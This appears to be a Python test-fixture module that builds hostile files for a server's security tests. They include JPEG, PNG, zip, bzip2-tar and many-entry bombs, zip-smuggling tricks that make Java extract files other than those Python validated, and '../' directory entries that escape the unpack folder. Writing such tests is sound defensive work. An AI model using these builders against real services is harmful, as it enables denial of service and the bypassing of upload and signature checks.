"""Hostile bytes, built here and never checked in: the images, requests and archives an attacker sent
(issues 11 and 20). Each builder says what the bytes do to a naive server or reader."""

from __future__ import annotations

import bz2
import functools
import io
import struct
import tarfile
import warnings
import zipfile
import zlib
from pathlib import Path

from PIL import Image

import images


def dds_unknown_pixel_format() -> bytes:
    """128 bytes that make Pillow's DDS plugin raise NotImplementedError (not an OSError)."""
    return (
        b"DDS "
        + struct.pack("<7I", 124, 0x1007, 4, 4, 0, 0, 0)
        + bytes(44)
        + struct.pack("<8I", 32, 0, 0, 0, 0, 0, 0, 0)
        + struct.pack("<5I", 0x1000, 0, 0, 0, 0)
    )


def blp_unknown_encoding() -> bytes:
    """A BLP2 header with encoding 9: Pillow raises BLPFormatError (a NotImplementedError)."""
    return (
        b"BLP2"
        + struct.pack("<i", 1)
        + struct.pack("<bbbb", 9, 0, 0, 0)
        + struct.pack("<II", 4, 4)
        + bytes(2000)
    )


def avif_corrupt_planes() -> bytes:
    """A real AVIF whose last 5 % of bytes are scrambled: libavif fails with RuntimeError."""
    data = bytearray(images.encode(images.scene(64, 64, 1), "AVIF"))
    for i in range(int(len(data) * 0.95), len(data)):
        data[i] ^= 0x5A
    return bytes(data)


def jpeg_segments(data: bytes) -> list[tuple[int, bytes]]:
    """(marker, bytes of the segment including entropy-coded data after an SOS) in file order."""
    segments: list[tuple[int, bytes]] = []
    position = 2
    while position < len(data):
        marker = data[position + 1]
        if marker == 0xD9:
            break
        length = int.from_bytes(data[position + 2 : position + 4], "big")
        end = position + 2 + length
        if marker == 0xDA:  # the scan's data runs to the next marker that is not 0xFF00 or a restart
            while not (data[end] == 0xFF and data[end + 1] not in (0x00, *range(0xD0, 0xD8))):
                end += 1
        segments.append((marker, data[position:end]))
        position = end
    return segments


def progressive_jpeg_scan_bomb(side: int = 4000, repeats: int = 20_000) -> bytes:
    """A progressive JPEG of a flat side x side image with its last AC scan repeated ``repeats`` times:
    0.7 MB that libjpeg decodes scan by scan (12 ms each at 4000x4000 here), only warning about the
    bogus progression: 4 minutes of CPU at 20,000 repeats, under every size limit."""
    flat = images.encode(
        Image.new("RGB", (side, side), (120, 130, 140)), "JPEG", progressive=True, quality=75
    )
    segments = jpeg_segments(flat)
    last_scan = max(i for i, (marker, _) in enumerate(segments) if marker == 0xDA)
    body = b"".join(segment for _, segment in segments[: last_scan + 1])
    return b"\xff\xd8" + body + segments[last_scan][1] * repeats + b"\xff\xd9"


def _png_chunk(kind: bytes, payload: bytes) -> bytes:
    return struct.pack(">I", len(payload)) + kind + payload + struct.pack(">I", zlib.crc32(kind + payload))


def png_one_row(width: int, height: int, bit_depth: int = 8, colour_type: int = 0) -> bytes:
    """A complete, valid-looking PNG declaring width x height whose compressed data holds one row:
    Pillow fills the missing rows without an error."""
    channels = {0: 1, 2: 3}[colour_type]
    row = b"\x00" + bytes(width * channels * bit_depth // 8)
    header = struct.pack(">IIBBBBB", width, height, bit_depth, colour_type, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n"
        + _png_chunk(b"IHDR", header)
        + _png_chunk(b"IDAT", zlib.compress(row, 9))
        + _png_chunk(b"IEND", b"")
    )


def png_16bit_strip_one_row() -> bytes:
    """68 bytes: 1 x 40,000,000 pixels of 16-bit grey, one row of data (took a worker to 1.4 GB)."""
    return png_one_row(1, 40_000_000, bit_depth=16)


def png_square_one_row() -> bytes:
    """98 bytes: 6324 x 6324 8-bit grey (just under 40 megapixels), one row of data."""
    return png_one_row(6324, 6324)


def xpm() -> bytes:
    """An XPM image: text, but an image Pillow reads."""
    rows = ['"8 8 2 1"', '"a c #E02020"', '"b c #2040E0"', *['"aaaabbbb"'] * 4, *['"bbbbaaaa"'] * 4]
    return ("/* XPM */\nstatic char *picture[] = {\n" + ",\n".join(rows) + "\n};\n").encode()


def ascii_ppm() -> bytes:
    """A plain (ASCII) PPM image: text, but an image Pillow reads."""
    pixels = " ".join("200 40 40" if (x + y) % 2 else "30 60 220" for y in range(8) for x in range(8))
    return f"P3\n8 8\n255\n{pixels}\n".encode()


BOM = b"\xef\xbb\xbf"


def text_with_bom() -> bytes:
    return BOM + b"hello, this is a note, not a picture\n"


def svg_with_bom() -> bytes:
    return BOM + b'<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10"/>'


def utf16_text() -> bytes:
    return "a note saved by Notepad, not a picture\n".encode("utf-16")


# ------------------------------------------------------------------------------------------ archives
_LOCAL = struct.Struct("<4sHHHHHIIIHH")  # local file header, 30 bytes
_CENTRAL = struct.Struct("<4sHHHHHHIIIHHHHHII")  # central directory record, 46 bytes
_END = struct.Struct("<4sHHHHIIH")  # end of central directory, 22 bytes


def _local_entry(name: str, data: bytes) -> bytes:
    """A stored zip entry: local header, name, data."""
    raw = name.encode()
    return (
        _LOCAL.pack(b"PK\x03\x04", 20, 0, 0, 0, 0x21, zlib.crc32(data), len(data), len(data), len(raw), 0)
        + raw
        + data
    )


def _split(archive: bytes) -> tuple[bytes, list[bytes], tuple[int, ...], bytes]:
    """(bytes before the central directory, its records, end-record fields, what follows the end record)."""
    end = archive.rindex(b"PK\x05\x06")
    fields = _END.unpack(archive[end : end + _END.size])
    size, offset = fields[5], fields[6]
    records, position = [], offset
    while position < offset + size:
        head = _CENTRAL.unpack(archive[position : position + _CENTRAL.size])
        length = _CENTRAL.size + head[10] + head[11] + head[12]
        records.append(archive[position : position + length])
        position += length
    return archive[:offset], records, fields, archive[end + _END.size :]


def _join(entries: bytes, records: list[bytes], fields: tuple[int, ...], tail: bytes) -> bytes:
    directory = b"".join(records)
    end = _END.pack(*fields[:3], len(records), len(records), len(directory), len(entries), fields[7])
    return entries + directory + end + tail


def zip_with_hidden_entry(archive: bytes, name: str, data: bytes) -> bytes:
    """``archive`` plus one more local entry ``name``, placed after the others and listed nowhere in
    the central directory (whose offset is moved past it). zipfile never sees it; Java's
    ZipInputStream, which MMS unpacks with, extracts it last, over the listed file of that name."""
    entries, records, fields, tail = _split(archive)
    return _join(entries + _local_entry(name, data), records, fields, tail)


def zip_with_reversed_duplicate(files: dict[str, bytes], name: str, data: bytes) -> bytes:
    """A zip holding ``name`` twice, the genuine file first and ``data`` last, whose central directory
    lists the two in the reverse order: zipfile takes the last record (the genuine file), MMS
    extracts both in file order (the second wins)."""
    buffer = io.BytesIO()
    with warnings.catch_warnings():
        warnings.simplefilter("ignore", UserWarning)  # zipfile warns about the duplicate name
        with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as out:
            for entry, content in sorted(files.items()):
                out.writestr(entry, content)
            out.writestr(name, data)
    entries, records, fields, tail = _split(buffer.getvalue())
    first = next(i for i, record in enumerate(records) if record[_CENTRAL.size :].startswith(name.encode()))
    records.append(records.pop(first))  # the genuine file's record now comes last
    return _join(entries, records, fields, tail)


def zip_with_entry_hidden_in_padding(archive: bytes, name: str, data: bytes) -> bytes:
    """An extra first entry whose recorded compressed size covers its deflate stream plus a whole
    local entry ``name``: zipfile stops inflating at the stream's end and skips the rest; Java's
    ZipInputStream reads the next local header right where the stream ends."""
    filler = b"harmless text\n" * 10
    stream = zlib.compressobj(6, zlib.DEFLATED, -15)
    packed = stream.compress(filler) + stream.flush() + _local_entry(name, data)
    raw = b"README.txt"
    local = _LOCAL.pack(
        b"PK\x03\x04", 20, 0, 8, 0, 0x21, zlib.crc32(filler), len(packed), len(filler), len(raw), 0
    )
    first = local + raw + packed
    entries, records, fields, tail = _split(archive)
    central = _CENTRAL.pack(
        b"PK\x01\x02",
        20,
        20,
        0,
        8,
        0,
        0x21,
        zlib.crc32(filler),
        len(packed),
        len(filler),
        len(raw),
        0,
        0,
        0,
        0,
        0,
        0,
    )
    shifted = []
    for record in records:  # every other entry moves back by the new first entry's length
        head = list(_CENTRAL.unpack(record[: _CENTRAL.size]))
        head[16] += len(first)
        shifted.append(_CENTRAL.pack(*head) + record[_CENTRAL.size :])
    return _join(first + entries, [central + raw, *shifted], fields, tail)


def zip_bomb(path: Path, entries: int = 4, size: int = 300 * 1024 * 1024) -> Path:
    """``entries`` files of ``size`` zero bytes each, deflated (about 1/1000 of their size)."""
    block = bytes(1 << 20)
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED, compresslevel=1) as out:
        for number in range(entries):
            with out.open(f"zeros{number}.bin", "w") as sink:
                for _ in range(size // len(block)):
                    sink.write(block)
    return path


# ------------------------------------------------------------------------- entry names MMS unpacks
def zip_rewritten(
    archive: bytes, *, rename: dict[str, str] | None = None, directories: tuple[str, ...] = ()
) -> bytes:
    """``archive``'s entries in their order, bytes and compression unchanged, some renamed, with
    ``directories`` (names ending in ``/``) added first as directory entries. The files and their
    hashes, and so a signature over them, stay the same: only what MMS unpacks changes. A directory
    entry ``../x/`` makes MMS (``FileUtils.forceMkdir``) create ``x`` beside its unpack folder; a file
    renamed ``a\\b`` is, for Java on Linux, one file of that name at the root, not ``b`` in ``a``."""
    rename = rename or {}
    buffer = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(archive)) as source, zipfile.ZipFile(buffer, "w") as target:
        for name in directories:
            folder = zipfile.ZipInfo(name, date_time=(1980, 1, 1, 0, 0, 0))
            folder.create_system = 3
            folder.external_attr = (0o40755 << 16) | 0x10  # a directory, for unix and DOS
            target.writestr(folder, b"")
        for info in source.infolist():
            copy = zipfile.ZipInfo(rename.get(info.filename, info.filename), date_time=info.date_time)
            copy.compress_type, copy.create_system = info.compress_type, info.create_system
            copy.external_attr = info.external_attr
            target.writestr(copy, source.read(info))
    return buffer.getvalue()


# ------------------------------------------------------------------------------------ archive bombs
_ZEROS = bytes(1 << 20)


@functools.lru_cache(maxsize=8)
def _bzip2_zeros(size: int) -> bytes:
    """One bzip2 stream of ``size`` zero bytes."""
    packer = bz2.BZ2Compressor(9)
    whole, rest = divmod(size, len(_ZEROS))
    parts = [packer.compress(_ZEROS) for _ in range(whole)]
    return b"".join([*parts, packer.compress(_ZEROS[:rest]), packer.flush()])


def _bzip2_of_zeros(size: int, chunk: int = 64 * 1024 * 1024) -> bytes:
    """bzip2 that decompresses to ``size`` zero bytes: one stream of ``chunk`` zeros, compressed once
    and repeated (bzip2 readers, Python's ``bz2`` and ``tar -j`` alike, read concatenated streams as
    one), then the rest: 40 GiB in about 40 KB, built in half a second."""
    whole, rest = divmod(size, chunk)
    return _bzip2_zeros(chunk) * whole + (_bzip2_zeros(rest) if rest else b"")


def bzip2_tar_of_zeros(path: Path, members: list[tuple[str, int]], kind: bytes = tarfile.REGTYPE) -> Path:
    """A bzip2 tar whose members (name, size) hold zeros: ``[("zeros.bin", 40 << 30)]`` is 40 GiB
    in about 40 KB, which ``tarfile.getmembers()`` decompresses whole (a minute of CPU) to find the
    end. ``kind`` ``tarfile.XHDTYPE`` makes each a pax header, whose data tarfile reads into memory."""
    streams = []
    for name, size in members:
        header = tarfile.TarInfo(name)
        header.size, header.type, header.mode = size, kind, 0o644
        streams.append(bz2.compress(header.tobuf(format=tarfile.GNU_FORMAT)))
        streams.append(_bzip2_of_zeros(size + (-size) % tarfile.BLOCKSIZE))
    streams.append(bz2.compress(bytes(tarfile.RECORDSIZE)))  # the end-of-archive blocks, padded
    path.write_bytes(b"".join(streams))
    return path


_LOCAL_EMPTY = struct.Struct("<4sHHHHHIIIHH")
_ZIP64_END = struct.Struct("<4sQHHIIQQQQ")
_ZIP64_LOCATOR = struct.Struct("<4sIQI")


def zip_with_many_entries(path: Path, entries: int, declared: int | None = None) -> Path:
    """A zip of ``entries`` empty stored files, as zipfile writes it (a zip64 end record past 65,535
    entries), built in a second: 400,000 entries are 36 MB that ``zipfile.ZipFile`` parses whole,
    250 MB of ZipInfo objects, before anyone can count them. ``declared``: the count the end
    record gives instead (no zip64 record then): a directory longer than its end record says."""
    local, central = io.BytesIO(), io.BytesIO()
    for number in range(entries):
        name = f"e{number}".encode()
        offset = local.tell()
        local.write(_LOCAL_EMPTY.pack(b"PK\x03\x04", 20, 0, 0, 0, 0x21, 0, 0, 0, len(name), 0) + name)
        central.write(
            _CENTRAL.pack(b"PK\x01\x02", 20, 20, 0, 0, 0, 0x21, 0, 0, 0, len(name), 0, 0, 0, 0, 0, offset)
        )
        central.write(name)
    start, directory = local.tell(), central.getvalue()
    tail = b""
    count = declared if declared is not None else entries
    if declared is None and entries > 0xFFFF:
        end64 = start + len(directory)
        tail = _ZIP64_END.pack(b"PK\x06\x06", 44, 45, 45, 0, 0, entries, entries, len(directory), start)
        tail += _ZIP64_LOCATOR.pack(b"PK\x06\x07", 0, end64, 1)
        count = 0xFFFF
    end = _END.pack(b"PK\x05\x06", 0, 0, count, count, len(directory), start, 0)
    path.write_bytes(local.getvalue() + directory + tail + end)
    return path
